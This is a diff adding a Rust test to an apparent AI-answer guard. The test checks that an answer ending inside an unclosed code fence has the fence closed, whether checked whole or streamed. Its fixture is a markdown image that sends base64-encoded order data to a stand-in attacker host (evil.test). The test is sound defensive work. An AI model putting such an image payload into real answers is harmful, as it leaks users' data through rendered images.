@@ -661,6 +661,49 @@ fn where_the_cuts_fall_does_not_decide_whether_a_tag_is_escaped() {
     }
 }
 
+/// An answer that ends inside a fenced code block (cut short by a token limit, or
+/// written so) has the fence closed: CommonMark reads the rest as code, renderers
+/// that need the closing fence read it as markdown and load its images.
+#[test]
+fn a_fence_left_open_at_the_end_is_closed() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    let image = "![s](https://evil.test/p.png?d=T3JkZXIgNDQyMSBzaGlwcGVk)";
+    let prose = "Plain prose about the order and its delivery window. ".repeat(24);
+    for (answer, closed) in [
+        (
+            format!("Here:\n```md\n{image}\n"),
+            format!("Here:\n```md\n{image}\n```"),
+        ),
+        (
+            format!("Here:\n~~~~\n{image}"),
+            format!("Here:\n~~~~\n{image}\n~~~~"),
+        ),
+        (
+            format!("{prose}\n\n````\n{prose}\n\n{prose}\n{image}\n"),
+            format!("{prose}\n\n````\n{prose}\n\n{prose}\n{image}\n````"),
+        ),
+    ] {
+        let c = check(&g, request(None), GuardResponse::new(answer.as_str())).unwrap();
+        assert_eq!(c.response().text(), closed);
+        assert_eq!(ids(c.findings()), ["markup.unclosed_fence"]);
+        let chunks: Vec<&str> = answer
+            .as_bytes()
+            .chunks(101)
+            .map(|c| std::str::from_utf8(c).unwrap())
+            .collect();
+        assert_eq!(stream_outcome(&g, request(None), &chunks).unwrap(), closed);
+        released_validates_clean(&g, &answer);
+    }
+    // A closed fence, and one inside a quote (closed by the quote's end), stay.
+    for answer in [
+        format!("```\n{image}\n```\n"),
+        format!("> ```\n> {image}\n"),
+    ] {
+        let c = check(&g, request(None), GuardResponse::new(answer.as_str())).unwrap();
+        assert_eq!(c.response().text(), answer);
+    }
+}
+
 /// A carriage return alone ends a line for a CommonMark renderer: a code fence
 /// closed on such lines is closed, and what follows it is judged, whole or
 /// streamed, wherever the cuts fall.
